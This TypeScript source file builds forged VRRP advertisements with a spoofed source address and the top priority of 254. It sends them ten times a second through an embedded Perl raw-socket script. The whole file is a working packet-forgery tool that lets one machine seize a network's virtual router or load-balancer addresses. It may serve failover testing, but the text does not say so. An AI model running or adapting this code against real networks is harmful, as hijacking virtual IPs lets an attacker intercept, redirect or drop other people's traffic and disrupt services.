import {execFile} from 'node:child_process';
import {promisify} from 'node:util';

/** An advertisement of VRRP that says it is from somebody else. */
export interface Forged {
  readonly from: string;
  readonly to: string;
  /** Hops that it has to go when it arrives. */
  readonly ttl: number;
  readonly router: number;
  /** The virtual addresses, in the order in which the balancers have them. */
  readonly addresses: readonly string[];
}

/** Sends it ten times a second for `seconds` seconds from this machine, with the highest priority of a balancer. */
export async function forge(forged: Forged, seconds: number): Promise<void> {
  const packet = ipPacket(forged, advertisement(forged)).toString('hex');
  await promisify(execFile)('perl', ['-e', SENDER, forged.to, packet, `${seconds * 10}`]);
}

/** IPPROTO_RAW: the packet comes with its own header, whose checksum the kernel fills in (raw(7)). */
const SENDER = `use Socket;
my ($to, $packet, $times) = @ARGV;
socket(my $socket, AF_INET, SOCK_RAW, 255) or die "socket: $!";
for (1 .. $times) {
  send($socket, pack("H*", $packet), 0, sockaddr_in(0, inet_aton($to))) or die "send: $!";
  select(undef, undef, undef, 0.1);
}`;

const VRRP = 112;

function ipPacket({from, to, ttl}: Forged, payload: Buffer): Buffer {
  const head = Buffer.from([0x45, 0xc0, 0, 20 + payload.length, 0, 0, 0, 0, ttl, VRRP, 0, 0]);
  return Buffer.concat([head, bytes(from), bytes(to), payload]);
}

/** RFC 9568, section 5.2: version 3, priority 254, every half second. */
function advertisement({from, to, router, addresses}: Forged): Buffer {
  const message = Buffer.concat([
    Buffer.from([0x31, router, 254, addresses.length, 0, 50, 0, 0]),
    ...addresses.map(bytes),
  ]);
  const pseudoHeader = Buffer.concat([bytes(from), bytes(to), Buffer.from([0, VRRP, 0, message.length])]);
  message.writeUInt16BE(checksum(Buffer.concat([pseudoHeader, message])), 6);
  return message;
}

const bytes = (address: string) => Buffer.from(address.split('.').map(Number));

/** RFC 1071, of an even number of bytes. */
function checksum(data: Buffer): number {
  let sum = 0;
  for (let at = 0; at < data.length; at += 2) sum += data.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}
